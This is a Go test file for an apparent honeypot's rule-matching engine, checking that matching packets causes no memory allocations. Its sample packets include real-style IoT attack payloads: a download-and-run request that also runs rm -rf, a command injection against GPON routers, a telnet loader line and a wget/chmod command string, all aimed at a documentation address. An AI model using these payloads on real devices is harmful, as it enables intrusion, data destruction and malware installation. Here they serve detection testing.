package rules

import (
	"testing"

	"github.com/honeyscope/honeyscope/internal/decode"
)

// benchPackets is a mix of what a sensor receives: a SYN without payload,
// a benign HTTP request, HTTP exploits, a telnet loader line and binary.
func benchPackets() []*decode.Packet {
	syn := tcp("")
	syn.TCPFlags = decode.TCPSyn
	bin := make([]byte, 1400)
	for i := range bin {
		bin[i] = byte(i * 7)
	}
	return []*decode.Packet{
		syn,
		tcp("GET /index.html HTTP/1.1\r\nHost: 192.0.2.10\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: */*\r\nConnection: close\r\n\r\n"),
		tcp("GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/arm;sh+/tmp/arm HTTP/1.1\r\nUser-Agent: Hello, world\r\nHost: 192.0.2.10:80\r\n\r\n"),
		tcp("POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 192.0.2.10\r\nContent-Length: 118\r\n\r\nXWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://192.0.2.1/gpon+-O+/tmp/g;sh+/tmp/g`&ipv=0"),
		tcp("enable\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n"),
		tcp(string(bin)),
	}
}

func TestMatcherAllocs(t *testing.T) {
	engines := map[string]*Engine{"builtin": builtinEngine(t)}
	if dir := findShared(); dir != "" {
		s, err := Load([]string{dir + "/rules/et-open-2025-08-17", dir + "/rules/iot-relevant.rules"}, Options{})
		if err != nil {
			t.Fatal(err)
		}
		e, err := Compile(s)
		if err != nil {
			t.Fatal(err)
		}
		engines["et-open"] = e
	}
	for name, e := range engines {
		m := NewMatcher(e)
		st := NewState(1024, 1024)
		dst := make([]Alert, 0, 64)
		req := &HTTPRequest{Method: "GET", URI: "/shell?cd+/tmp", Headers: "Host: a\r\nUser-Agent: Hello, world\r\n", Body: []byte("x=1")}
		for _, p := range benchPackets() {
			ctx := &Context{State: st, Flow: 1}
			run := func() {
				dst = m.Packet(p, ctx, dst[:0])
				dst = m.HTTP(req, ctx, dst[:0])
				dst = m.Command("cd /tmp; wget http://192.0.2.1/x -O - > x; chmod 777 x", ctx, dst[:0])
			}
			run() // grow the scratch buffers
			if n := testing.AllocsPerRun(50, run); n != 0 {
				t.Errorf("%s: %q: %v allocations per run", name, p.Payload[:min(len(p.Payload), 30)], n)
			}
		}
		a := NewExploitAdapter(e)
		p := benchPackets()[2].Payload
		a.Match(p)
		if n := testing.AllocsPerRun(50, func() { a.Match(p) }); n != 0 {
			t.Errorf("%s: adapter Match allocates %v", name, n)
		}
	}
}
